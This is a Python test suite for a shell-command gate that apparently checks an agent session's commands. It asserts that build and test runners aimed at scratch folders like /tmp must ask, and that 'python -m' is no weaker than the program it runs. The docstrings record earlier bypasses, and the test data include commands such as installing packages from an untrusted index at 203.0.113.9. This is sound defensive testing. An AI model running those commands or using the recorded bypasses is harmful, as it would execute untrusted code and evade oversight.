"""A tool that runs a project's code pointed at a project in a folder anyone may write (the
twentieth sitting's held-out `classes-fresh108.txt`: 33 of its 37 attacks allowed at its
first run): by an option naming the project's folder or file (`make -C /tmp/x`, `mvn -f
/tmp/x/pom.xml`, `cargo test --manifest-path …`), a test runner's operands (`pytest
/tmp/x`), or a `cd` there first (`cd /tmp/x && npm test`). Each runs code (tests, build
scripts, install hooks) no call of the session wrote: understood, or ask, as `bash
/tmp/x.sh` is. And `python -m MODULE ARGS` is read as the program MODULE is (`python3 -m
pip install --target ~/.local/…` had been allowed where `pip install --target …` is
blocked).

The laws, each shown catching its reading taken away: every option and runner of the
table pointed at a scratch folder asks, and pointed at the project's own folder runs; a
runner moved by `cd` into a scratch folder asks, moved into the project's folder or
running a program that runs no project there does not; `python -m X` is at least as
strict as X."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.shield_laws import STOPPED, decide
from toolpipe.layers import _shield_builds
from toolpipe.shell import _carried, _loads

_RANK = {"allow": 0, "warn": 1, "ask": 2, "block": 3}
SCRATCH = st.sampled_from(["/tmp", "/var/tmp", "/dev/shm", "/tmp/build"])
STEM = st.sampled_from(["x", "proj", "pkg"])
OPTIONS = sorted((p, o) for p, opts in _loads.PROJECT_OPTIONS.items() for o in opts)
# a command line that runs the project for each program (the option's place is put first)
RUNS = {"npm": "run build", "pnpm": "test", "yarn": "build", "bun": "run build",
        "cargo": "test", "dotnet": "run", "go": "build ./...", "composer": "install",
        "cmake": "-B out", "unittest": "discover", "task": "build", "just": "build"}


def _line(program: str, option: str, place: str) -> str:
    runner = f"python3 -m {program}" if program == "unittest" else program
    return f"{runner} {option} {place} {RUNS.get(program, '')}".strip()


@settings(max_examples=150, deadline=None)
@given(st.sampled_from(OPTIONS), SCRATCH, STEM, st.booleans())
def test_an_option_naming_a_project_in_a_scratch_folder_asks(row, scratch, stem, glued):
    program, option = row
    if glued and option.startswith("--"):
        line = _line(program, option, f"{scratch}/{stem}").replace(f"{option} ", f"{option}=")
    else:
        line = _line(program, option, f"{scratch}/{stem}")
    assert decide(line) in STOPPED, line
    own = line.replace(f"{scratch}/{stem}", f"sub/{stem}")
    assert decide(own) not in STOPPED, own


@settings(max_examples=100, deadline=None)
@given(st.sampled_from(OPTIONS), st.sampled_from(["~/projects/other", "/opt/app", "../x"]))
def test_an_option_naming_a_project_outside_the_workspace_asks(row, outside):
    """The twenty-first sitting found the rules' table of builds pointed elsewhere drifted
    from this one (`npx jest --rootDir ~/x`, `./gradlew -p ~/x` allowed, `make -C ~/x`
    asked): it is built from this one now."""
    program, option = row
    line = _line(program, option, outside)
    assert decide(line) in STOPPED, line


@settings(max_examples=80, deadline=None)
@given(st.sampled_from(["pytest {p}", "python -m pytest {p} -q", "rspec {p}/spec",
                        "phpunit {p}/tests", "npx jest {p}", "go test {p}/...",
                        "deno test {p}", "bun test {p}", "dotnet test {p}/App.csproj",
                        "gem build {p}/x.gemspec", "meson setup out {p}"]), SCRATCH, STEM)
def test_a_runner_s_operands_in_a_scratch_folder_ask(shape, scratch, stem):
    line = shape.format(p=f"{scratch}/{stem}")
    assert decide(line) in STOPPED, line
    own = shape.format(p=f"./{stem}")
    assert decide(own) not in STOPPED, own


@pytest.mark.parametrize("command", [
    "pytest --junitxml /tmp/report.xml tests", "npx jest --outputFile /tmp/r.json",
    "go test -coverprofile /tmp/c.out ./...", "rspec --out /tmp/rspec.txt spec",
    "go build -o /tmp/app ./cmd/app", "pytest --cov-report html:/tmp/cov tests",
    "cargo build --target-dir /tmp/target", "pip download -d /tmp/wheels requests",
    "cmake -S . -B /tmp/build", "meson setup /tmp/builddir"])
def test_a_runner_s_output_in_a_scratch_folder_is_no_project(command):
    assert decide(command) not in STOPPED, command


@settings(max_examples=80, deadline=None)
@given(st.sampled_from(["make", "npm test", "pytest", "cargo build", "go test ./...",
                        "./gradlew build", "mvn package", "tox", "dotnet build", "just",
                        "composer install", "yarn build", "bundle exec rake"]),
       SCRATCH, STEM)
def test_a_runner_moved_into_a_scratch_folder_asks(runner, scratch, stem):
    assert decide(f"cd {scratch}/{stem} && {runner}") in STOPPED
    assert decide(f"cd build && {runner}") not in STOPPED
    version = () if runner.startswith("./") else (f"{runner.split()[0]} --version",)  # (a
    # program of the folder's own, `./gradlew`, is its code whatever it is asked)
    for other in ("ls -la", "cat README.md", *version):
        assert decide(f"cd {scratch}/{stem} && {other}") not in STOPPED, other


@settings(max_examples=80, deadline=None)
@given(st.sampled_from([
    "pip install --target ~/.local/lib/python3.11/site-packages x",
    "pip install -i http://203.0.113.9/simple x", "pip install /tmp/x",
    "pytest /tmp/x", "pip install -r requirements.txt", "pytest tests -q",
    "pip download -d /tmp/wheels requests"]), st.sampled_from(["python", "python3",
                                                               "python3.11", "pypy3"]))
def test_python_m_is_at_least_as_strict_as_the_program(command, python):
    module = f"{python} -m {command}"
    assert _RANK[decide(module)] >= _RANK[decide(command)], (module, command)


@pytest.mark.parametrize(("module", "name", "broken", "command"), [
    (_loads, "PROJECT_OPTIONS", {}, "make -C /tmp/x"),
    (_loads, "_TEST_OPERANDS", {}, "pytest /tmp/x"),
    (_loads, "_IN_ITS_FOLDER", {}, "cd /tmp/x && make"),
    (_shield_builds, "_BUILD_PLACE", _shield_builds._OWN_PLACES, "npx jest --rootDir ~/x"),
    (_carried, "_module_program", lambda name, args: None,
     "python3 -m pip install -i http://203.0.113.9/simple x"),
])
def test_each_law_catches_its_reading_taken_away(taken_away, module, name, broken, command):
    before, after = taken_away(module, name, broken, command)
    assert before in STOPPED
    assert after == "allow"
